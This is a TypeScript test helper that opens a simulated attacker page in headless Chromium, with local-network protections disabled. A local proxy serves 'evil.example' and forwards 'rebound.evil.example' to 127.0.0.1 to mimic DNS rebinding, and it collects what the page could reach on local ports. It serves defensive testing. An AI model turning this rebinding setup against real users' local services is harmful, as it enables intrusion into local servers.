import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { readFile, rm } from 'node:fs/promises'
import { createServer, request, type IncomingMessage, type ServerResponse } from 'node:http'
import { type AddressInfo, connect } from 'node:net'
import { text } from 'node:stream/consumers'
import { waitUntil } from './wait-until.js'
import { createTemporaryDirectory } from './create-temporary-directory.js'

/** What a page of an attacker could do. */
export interface PageFinding {
  /** The host of the page. */
  readonly page: string
  /** What it could do: `read GET /healthz`. */
  readonly what: string
  readonly port: number
}

interface PageReport {
  readonly page: string
  readonly found: readonly PageFinding[]
}

const ARGUMENTS = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--disable-quic',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
  // The servers must protect themselves: not every browser asks before a page uses the local network.
  '--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessSendPreflights,BlockInsecurePrivateNetworkRequests',
]

/**
 * Opens the page of an attacker (`hostile-page.html`) in Chromium and resolves to what it could do at these ports of
 * 127.0.0.1, as a page of another site and as one whose name was pointed to this machine. The browser uses a proxy, which
 * serves `evil.example` and forwards `rebound.evil.example` to this machine.
 */
export async function openHostilePage(ports: readonly number[]): Promise<readonly PageFinding[]> {
  const source = await readFile(new URL('hostile-page.html', import.meta.url), 'utf8')
  const page = source.replace('const targets = TARGETS', `const targets = ${JSON.stringify(ports)}`)
  const reports: PageReport[] = []
  const proxy = createServer((incoming, response) => {
    serve(incoming, response, page, reports).catch(() => response.destroy())
  })
  // WebSockets of pages.
  proxy.on('connect', (incoming: IncomingMessage, client: ReturnType<typeof connect>) => {
    const upstream = connect(Number(incoming.url?.split(':')[1]), '127.0.0.1', () =>
      client.write('HTTP/1.1 200 OK\r\n\r\n'),
    )
    upstream.on('error', () => client.destroy())
    client.on('error', () => upstream.destroy())
    client.pipe(upstream).pipe(client)
  })
  proxy.listen(0, '127.0.0.1')
  await once(proxy, 'listening')
  const profile = await createTemporaryDirectory('homemanager-chromium-')
  const browser = spawn(
    'chromium',
    [
      ...ARGUMENTS,
      `--user-data-dir=${profile}`,
      `--proxy-server=127.0.0.1:${(proxy.address() as AddressInfo).port}`,
      'http://evil.example/attack',
    ],
    { stdio: 'ignore', detached: true },
  )
  try {
    await waitUntil(() => reports.length === ports.length + 1, 90_000)
  } finally {
    const exited = once(browser, 'exit')
    process.kill(-(browser.pid ?? 0), 'SIGKILL')
    await exited
    proxy.closeAllConnections()
    proxy.close()
    await rm(profile, { recursive: true, force: true, maxRetries: 10 })
  }
  return reports.flatMap(({ found }) => found)
}

async function serve(
  incoming: IncomingMessage,
  response: ServerResponse,
  page: string,
  reports: PageReport[],
): Promise<void> {
  const { hostname, port, pathname, search } = new URL(incoming.url ?? '')
  if (pathname === '/attack') {
    response.writeHead(200, { 'content-type': 'text/html' }).end(page)
  } else if (pathname === '/report') {
    reports.push(JSON.parse(await text(incoming)) as PageReport)
    response.writeHead(204).end()
  } else if (hostname === 'rebound.evil.example') {
    const { method, headers } = incoming
    const target = {
      host: '127.0.0.1',
      port,
      path: pathname + search,
      method,
      headers,
      agent: false as const,
    }
    const forwarded = request(target, (answer) => {
      response.writeHead(answer.statusCode ?? 502, answer.headers)
      answer.pipe(response)
    })
    forwarded.on('error', () => response.destroy())
    incoming.pipe(forwarded)
  } else response.writeHead(404).end()
}
